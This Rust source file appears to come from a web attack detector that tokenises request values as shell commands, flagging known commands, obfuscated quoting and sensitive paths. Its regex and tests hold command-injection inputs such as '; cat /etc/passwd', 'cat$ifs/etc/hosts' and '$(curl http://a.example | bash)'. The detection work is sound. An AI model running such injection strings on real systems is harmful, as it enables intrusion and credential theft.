//! A value read as a command line, one letter a token. The letters are listed in the portable twin
//! and in `signatures/http/words-shell.yml`.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::bytes::{at, find_byte, is_alpha};
use super::markup::fixed;
use super::sql::MAX_TOKENS;
use super::words::Words;

static BINARY_DIRECTORY: LazyLock<Regex> = LazyLock::new(|| {
    fixed(r"^(?:~?/?(?:usr/|system/|opt/)?(?:local/)?s?bin/|\./|/?(?:system|usr|opt)/)")
});
static SENSITIVE_PATH: LazyLock<Regex> = LazyLock::new(|| {
    fixed(
        r"^~?/?(?:etc|proc|dev/tcp|dev/udp|root|var/log|home)/|/\.(?:ssh|aws|bash_history|env)\b|(?:^|/)etc/(?:passwd|shadow|hosts|group)",
    )
});

/// What the bytes of a word say of it, so that most words need no second look.
const SLASH: u8 = 1;
const DOT: u8 = 2;
/// `:`, `\` or `%`: an address or a path of Windows may stand here.
const DRIVE: u8 = 4;
const EQUALS: u8 = 8;
const GLOB: u8 = 16;
/// No letter, digit, `_`, `$` or byte beyond ASCII.
const MARK: u8 = 32;
/// Ends a word.
const END: u8 = 64;
/// Quoting or an expansion: the word is read letter by letter.
const QUOTING: u8 = 128;

static MARKS: [u8; 256] = {
    let mut marks = [0; 256];
    let mut byte = 0;
    while byte < 256 {
        let letter = byte as u8;
        if !letter.is_ascii_alphanumeric() && letter != b'_' && letter != b'$' && letter < 0x80 {
            marks[byte] = MARK;
        }
        marks[byte] |= match letter {
            b'/' => SLASH,
            b'.' => DOT,
            b':' | b'%' => DRIVE,
            b'\\' => DRIVE | QUOTING,
            b'=' => EQUALS,
            b'?' | b'*' | b'[' => GLOB,
            b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<' | b'>' | b'{' | b'}' | b',' => END,
            b'\'' | b'"' | b'^' | b'$' => QUOTING,
            0..=b' ' => END,
            _ => 0,
        };
        byte += 1;
    }
    marks
};

fn marks_of(word: &[u8]) -> u8 {
    word.iter().fold(0, |all, &byte| all | MARKS[byte as usize])
}

/// Reads a lower-case value; `word` is room to work in.
pub fn tokenise(text: &[u8], words: &Words, word: &mut Vec<u8>, tokens: &mut Vec<u8>) {
    tokens.clear();
    let mut i = 0;
    while i < text.len() && tokens.len() < MAX_TOKENS {
        let byte = text[i];
        let next = at(text, i + 1);
        if byte == b'\n' || byte == b'\r' {
            if tokens.last().is_some_and(|&last| last != b'n') {
                tokens.push(b'n');
            }
            i += 1;
            continue;
        }
        if byte <= b' ' {
            i += 1;
            continue;
        }
        match byte {
            b';' | b'{' | b'}' | b',' => {
                tokens.push(byte);
                i += 1;
            }
            b'|' | b'&' => {
                tokens.push(byte);
                i += if next == byte { 2 } else { 1 };
            }
            b'`' => {
                tokens.push(b'(');
                i += 1;
            }
            b'$' | b'<' | b'>' if next == b'(' => {
                tokens.push(b'(');
                i += 2;
            }
            b'<' | b'>' => {
                tokens.push(b'>');
                i += 1;
                while i < text.len() && text[i] == byte {
                    i += 1;
                }
            }
            b'(' => {
                tokens.push(b'[');
                i += 1;
            }
            b')' => {
                tokens.push(b']');
                i += 1;
            }
            _ => {
                let (length, marks) = plain_word(&text[i..]);
                if marks & QUOTING == 0 {
                    classify(&text[i..i + length], marks, false, words, tokens);
                    i += length.max(1);
                    continue;
                }
                let from = i;
                let hidden;
                (i, hidden) = read_word(text, i, word);
                if i == from {
                    i += 1;
                }
                classify(word, marks_of(word), hidden, words, tokens);
            }
        }
    }
}

/// Letters of words that are no known command, and of the comma: what a value is made of that has
/// neither a slash nor a byte that `traits::SHELL_MARK` stands for.
pub const WORD_LETTERS: &[u8] = b"-u0Wwx,";
/// The same with slashes.
pub const PATH_LETTERS: &[u8] = b"-u0Wwx,/SGB";

/// The letter of the first token of such a value; 0 where it has none. `addresses` says whether some of the words
/// read like one.
pub fn first_letter(text: &[u8], words: &Words, addresses: bool) -> u8 {
    let Some(from) = text.iter().position(|&byte| byte > b' ') else {
        return 0;
    };
    if text[from] == b',' {
        return b',';
    }
    // Most values that begin like an address are one, and long: the rest of it changes nothing.
    if !addresses && is_address(&text[from..]) {
        return b'u';
    }
    let (length, marks) = plain_word(&text[from..]);
    class(&text[from..from + length], marks, words)
}

/// How far a word goes and its marks; up to its first quoting where it has any.
fn plain_word(text: &[u8]) -> (usize, u8) {
    let mut marks = 0;
    for (at, &byte) in text.iter().enumerate() {
        let mark = MARKS[byte as usize];
        if mark & (END | QUOTING) != 0 {
            return (at, marks | mark & QUOTING);
        }
        marks |= mark;
    }
    (text.len(), marks)
}

/// Reads one word with its quoting taken out; gives where it ends, and whether anything was taken out.
fn read_word(text: &[u8], from: usize, plain: &mut Vec<u8>) -> (usize, bool) {
    plain.clear();
    let mut hidden = false;
    let mut i = from;
    while i < text.len() {
        let byte = text[i];
        if MARKS[byte as usize] & END != 0 {
            break;
        }
        match byte {
            b'\'' | b'"' | b'^' => {
                if i > from && !plain.is_empty() {
                    hidden = true;
                }
                i += 1;
                continue;
            }
            b'\\' => {
                let windows = plain.len() > 1
                    && (plain.contains(&b':') || plain.contains(&b'%') || plain[0] == b'\\');
                if windows || (i == from && at(text, i + 1) == b'\\') {
                    plain.push(b'\\');
                } else {
                    hidden = true;
                }
                i += 1;
                continue;
            }
            b'$' => {
                let skipped = empty_expansion(text, i);
                if skipped > i {
                    hidden = true;
                    let blank = text[i..].starts_with(b"$ifs") || text[i..].starts_with(b"${ifs");
                    i = skipped;
                    if blank && !plain.is_empty() {
                        break;
                    }
                    continue;
                }
                if at(text, i + 1) == b'(' {
                    break;
                }
                if at(text, i + 1) == b'{'
                    && let Some(closed) = find_byte(text, i, b'}')
                    && closed - i < 64
                {
                    plain.push(b'$');
                    i = closed + 1;
                    continue;
                }
            }
            _ => {}
        }
        plain.push(byte);
        i += 1;
    }
    (i, hidden)
}

/// Ends of `$@`, `$*`, `$1`, `$ifs`, `$ifs$9`, `${ifs}` style expansions that come out empty or blank.
fn empty_expansion(text: &[u8], i: usize) -> usize {
    let next = at(text, i + 1);
    if text[i..].starts_with(b"$ifs") {
        let to = i + 4;
        return if at(text, to) == b'$' && at(text, to + 1).is_ascii_digit() {
            to + 2
        } else {
            to
        };
    }
    if text[i..].starts_with(b"${ifs") {
        return match find_byte(text, i, b'}') {
            Some(closed) if closed - i < 24 => closed + 1,
            _ => i,
        };
    }
    if next == b'@' || next == b'*' || next.is_ascii_digit() {
        i + 2
    } else {
        i
    }
}

fn classify(raw: &[u8], marks: u8, hidden: bool, words: &Words, tokens: &mut Vec<u8>) {
    if hidden && without_sign(raw).is_empty() {
        return;
    }
    let letter = class(raw, marks, words);
    if hidden && known(without_sign(raw), marks, words).is_some() {
        tokens.push(b'^');
    }
    tokens.push(letter);
}

/// The letter of a word.
fn class(raw: &[u8], marks: u8, words: &Words) -> u8 {
    let word = without_sign(raw);
    if word.is_empty() {
        return b'x';
    }
    known(word, marks, words).unwrap_or_else(|| class_of(word, marks, words))
}

fn without_sign(raw: &[u8]) -> &[u8] {
    match raw {
        [b'@' | b'!', rest @ ..] => rest,
        _ => raw,
    }
}

/// The letter of a known command, with or without what its name may end in.
fn known(word: &[u8], marks: u8, words: &Words) -> Option<u8> {
    // A suffix that may be taken off ends in a digit or comes after a dot.
    let digit = word.last().is_some_and(u8::is_ascii_digit);
    let stem = || (marks & DOT != 0 || digit).then(|| strip_suffix(word));
    words.get(word).or_else(|| words.get(stem()?))
}

fn class_of(word: &[u8], marks: u8, words: &Words) -> u8 {
    let first = word[0];
    if first == b'-' || first == b'$' {
        return first;
    }
    if marks & DRIVE != 0 {
        if is_address(word) {
            return b'u';
        }
        if is_windows_path(word) {
            let slash = word.iter().rposition(|&b| b == b'\\' || b == b'/');
            let base = strip_suffix(&word[slash.map_or(0, |at| at + 1)..]);
            return if words.contains(base) { b'B' } else { b'W' };
        }
    }
    if marks & SLASH != 0
        && let Some(slash) = memchr::memrchr(b'/', word)
    {
        let globbed = marks & GLOB != 0;
        if !globbed && words.contains(&word[slash + 1..]) && BINARY_DIRECTORY.is_match(word) {
            return b'B';
        }
        if globbed && is_rooted(word) {
            return b'G';
        }
        if SENSITIVE_PATH.is_match(word) {
            return b'S';
        }
        return if matches!(first, b'/' | b'~' | b'.') {
            b'/'
        } else {
            b'x'
        };
    }
    if first.is_ascii_digit() {
        let numeric = word
            .iter()
            .all(|b| b.is_ascii_digit() || b".:x".contains(b));
        return if numeric { b'0' } else { b'x' };
    }
    if marks & EQUALS != 0
        && let Some(equals) = memchr::memchr(b'=', word)
        && is_name(&word[..equals])
    {
        return b'=';
    }
    if is_alpha(first) && marks & MARK == 0 {
        b'w'
    } else {
        b'x'
    }
}

pub fn is_address(word: &[u8]) -> bool {
    let schemes: &[&[u8]] = match word.first() {
        Some(b'h') => &[b"http:", b"https:"],
        Some(b'f') => &[b"ftp:", b"ftps:", b"file:"],
        Some(b'l') => &[b"ldap:", b"ldaps:"],
        Some(b'd') => &[b"dict:"],
        Some(b'g') => &[b"gopher:"],
        Some(b't') => &[b"tftp:"],
        Some(b's') => &[b"smb:"],
        _ => return false,
    };
    schemes.iter().any(|scheme| word.starts_with(scheme))
}

/// `c:\…`, `%name%…`, `\\host`.
fn is_windows_path(word: &[u8]) -> bool {
    match word {
        [drive, b':', b'\\' | b'/', ..] if drive.is_ascii_lowercase() => true,
        [b'\\', b'\\', ..] => true,
        [b'%', rest @ ..] => {
            let letters = rest.iter().take_while(|b| b.is_ascii_lowercase()).count();
            (2..=20).contains(&letters) && at(rest, letters) == b'%'
        }
        _ => false,
    }
}

/// `/…`, `~/…`, `./…`, `../…`.
fn is_rooted(word: &[u8]) -> bool {
    let rest = word.strip_prefix(b"~").unwrap_or(word);
    let dots = rest.iter().take_while(|&&b| b == b'.').count();
    dots <= 2 && at(rest, dots) == b'/'
}

fn is_name(word: &[u8]) -> bool {
    match word {
        [first, rest @ ..] => {
            (first.is_ascii_lowercase() || *first == b'_')
                && rest
                    .iter()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'_')
        }
        [] => false,
    }
}

/// Takes off what an executable's name may end in: `.exe`, a version.
fn strip_suffix(word: &[u8]) -> &[u8] {
    const SUFFIXES: [&[u8]; 6] = [b".exe", b".com", b".bat", b".cmd", b".ps1", b".sh"];
    for suffix in SUFFIXES {
        if let Some(stem) = word.strip_suffix(suffix) {
            return stem;
        }
    }
    let tail = word
        .iter()
        .rev()
        .take(5)
        .take_while(|b| b.is_ascii_digit() || **b == b'.')
        .count();
    &word[..word.len() - tail]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words() -> Words {
        let of = [("cat", "c"), ("curl", "t"), ("whoami", "C"), ("bash", "t")];
        Words::new(
            &of.map(|(word, class)| (word.to_owned(), class.to_owned()))
                .into(),
        )
    }

    fn read(text: &str) -> String {
        let mut tokens = Vec::new();
        tokenise(text.as_bytes(), &words(), &mut Vec::new(), &mut tokens);
        String::from_utf8(tokens).expect("letters are ASCII")
    }

    #[test]
    fn reads_command_lines() {
        for (text, wanted) in [
            ("; cat /etc/passwd", ";cS"),
            ("c'a't /tmp/x", "^c/"),
            ("ca\\t <x>>y", "^c>w>w"),
            ("$(curl http://a.example | bash)", "(tu|t]"),
            ("/usr/bin/whoami && c:\\windows\\whoami.exe", "B&B"),
            ("/b?n/c?t", "G"),
            ("cat$ifs/etc/hosts", "^cS"),
            ("a=b -la $home 10.0.0.1", "=-$0"),
            ("bash5.2\n\nwhoami", "tnC"),
            ("plain words, no command", "ww,ww"),
        ] {
            assert_eq!(read(text), wanted, "{text}");
        }
    }

    #[test]
    fn the_first_letter_is_that_of_the_first_token() {
        for text in [
            "cat x",
            " ,a",
            "/etc/passwd y",
            "bash5.2",
            "@curl z",
            "w",
            "c:/x/cat.exe",
            "http://a.example/b c",
            "gopher:1.2",
            "@ldap:cat",
            "https x",
        ] {
            let whole = read(text);
            for addresses in [false, true] {
                assert_eq!(
                    first_letter(text.as_bytes(), &words(), addresses),
                    whole.as_bytes()[0],
                    "{text}"
                );
            }
        }
    }
}
